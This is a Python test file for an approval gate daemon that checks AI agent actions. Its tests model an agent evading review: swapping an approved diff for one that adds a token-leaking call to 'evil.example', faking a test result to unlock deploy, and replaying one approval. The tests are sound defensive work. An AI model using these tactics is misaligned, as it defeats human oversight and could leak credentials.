"""An approval binds to the exact input and is used once (issue 7 §4).

The approval signs the request record's hash, and the record holds the input's digest (a diff, a file's
content): so what the reviewer approved is that input. An outcome reporting another input, or a second
run of one allowed request, is recorded as a `violation` with the outcome, does not count for
`requires_prior`, and `verify` fails naming the rule (outcome_input_mismatch, reused_approval) from the
records alone. Each test is the exact attack, what the daemon answers and what the ledger records.
"""

from __future__ import annotations

import hashlib

from gatehelp import ledger_settled, sign

from forge_tui.core.findings import Code
from forge_tui.core.verify import verify_project

POLICY = """\
version = 1
default = "ask"
approval_timeout = "10m"

[[rule]]
id = "tests"
match = { kind = "shell.exec", command = ["pytest*"] }
decision = "allow"

[[rule]]
id = "deploy-after-tests"
match = { kind = "deploy" }
requires_prior = ["tests"]
decision = "ask"
"""
APPROVED = "-    expires = hours(12)\n+    expires = hours(1)\n"
WRITTEN = "-    expires = hours(12)\n+    expires = hours(1)\n+    send_tokens_to('evil.example')\n"


def digest(text: str) -> str:
    return "sha256:" + hashlib.sha256(text.encode()).hexdigest()


def findings(world) -> list[str]:
    ledger_settled(world)  # the daemon copies the records to the tracked copy just after it answers
    return [f.code for f in verify_project(world.project, workers=1).findings if f.severity == "error"]


def violations(world) -> list[dict]:
    return [r["body"] for r in world.records() if r["type"] == "violation"]


async def approve(world, rev, rid: str) -> None:
    (item,) = [i for i in (await rev.call("queue.list"))["pending"] if i["request_id"] == rid]
    assert (await rev.call("queue.decide", sign(world, "alice", item)))["status"] == "allowed"


async def test_an_outcome_for_other_input_than_approved_is_a_finding(make_world, start_daemon, connect):
    """Attack: the agent gets a reviewed diff approved, then writes a different one (an extra line
    that leaks tokens) and reports the run. Broken if the mismatch goes unrecorded or verify passes."""
    w = make_world(POLICY)
    await start_daemon(w)
    agent, rev = await connect(w.sock), await connect(w.rsock)
    action = {"kind": "file.write", "paths": ["src/auth/session.py"]}
    asked = await agent.call(
        "gate.request",
        {"action": action, "actor": {"id": "agent"}, "content": {"kind": "diff", "text": APPROVED}},
    )
    assert asked["status"] == "pending"
    await approve(w, rev, asked["request_id"])
    (request,) = [r["body"] for r in w.records() if r["type"] == "request"]
    assert request["action"]["input_digest"] == digest(APPROVED)  # the approval's hash covers this
    res = await agent.call(
        "gate.outcome",
        {"request_id": asked["request_id"], "status": "succeeded", "input_digest": digest(WRITTEN)},
    )
    assert res["violations"] == ["outcome_input_mismatch"]
    (v,) = violations(w)
    assert v["kind"] == "outcome_input_mismatch" and v["request_id"] == asked["request_id"]
    assert digest(WRITTEN)[:19] in v["detail"] and digest(APPROVED)[:19] in v["detail"]
    assert Code.OUTCOME_INPUT_MISMATCH in findings(w)


async def test_a_mismatched_run_does_not_count_as_the_prior_step(make_world, start_daemon, connect):
    """Attack: `pytest -q` is allowed; the agent runs something else and reports it as the tests'
    success to unlock `deploy` (requires_prior = tests). Broken if the deploy then reaches the queue."""
    w = make_world(POLICY)
    await start_daemon(w)
    agent = await connect(w.sock)
    tests = await agent.call(
        "gate.request",
        {
            "action": {"kind": "shell.exec", "command": "pytest -q", "input_digest": digest("pytest -q")},
            "actor": {"id": "agent", "session": "s"},
        },
    )
    assert tests["status"] == "allowed"
    res = await agent.call(
        "gate.outcome",
        {"request_id": tests["request_id"], "status": "succeeded", "input_digest": digest("true")},
    )
    assert res["violations"] == ["outcome_input_mismatch"]
    deploy = await agent.call(
        "gate.request", {"action": {"kind": "deploy"}, "actor": {"id": "agent", "session": "s"}}
    )
    assert deploy["status"] == "denied" and "tests" in deploy["reason"]


async def test_a_second_run_of_one_approval_is_flagged(make_world, start_daemon, connect):
    """Attack: one approved `make release` run twice (the script loops, or replays the request id).
    Broken if the second run is not recorded as `reused_approval` or verify passes; a `skipped`
    report first is no run and flags nothing."""
    w = make_world(POLICY)
    await start_daemon(w)
    agent, rev = await connect(w.sock), await connect(w.rsock)
    asked = await agent.call(
        "gate.request", {"action": {"kind": "shell.exec", "command": "make release"}, "actor": {"id": "a"}}
    )
    await approve(w, rev, asked["request_id"])
    rid = asked["request_id"]
    skipped = await agent.call("gate.outcome", {"request_id": rid, "status": "skipped"})
    first = await agent.call("gate.outcome", {"request_id": rid, "status": "succeeded"})
    assert "violations" not in skipped and "violations" not in first
    assert findings(w) == [], "one run of an approved request is a finding"
    second = await agent.call("gate.outcome", {"request_id": rid, "status": "failed"})
    assert second["violations"] == ["reused_approval"]
    (v,) = violations(w)
    assert (v["kind"], v["request_id"]) == ("reused_approval", rid)
    assert findings(w) == [Code.REUSED_APPROVAL]


async def test_two_runs_reported_at_once_are_still_one_too_many(make_world, start_daemon, connect):
    """Broken if two reports arriving together both pass as the first run."""
    import asyncio

    w = make_world(POLICY)
    await start_daemon(w)
    a, b = await connect(w.sock), await connect(w.sock)
    rid = (
        await a.call(
            "gate.request", {"action": {"kind": "shell.exec", "command": "pytest"}, "actor": {"id": "x"}}
        )
    )["request_id"]
    done = await asyncio.gather(
        *(c.call("gate.outcome", {"request_id": rid, "status": "succeeded"}) for c in (a, b))
    )
    assert sorted(len(r.get("violations", [])) for r in done) == [0, 1]
    assert [v["kind"] for v in violations(w)] == ["reused_approval"]
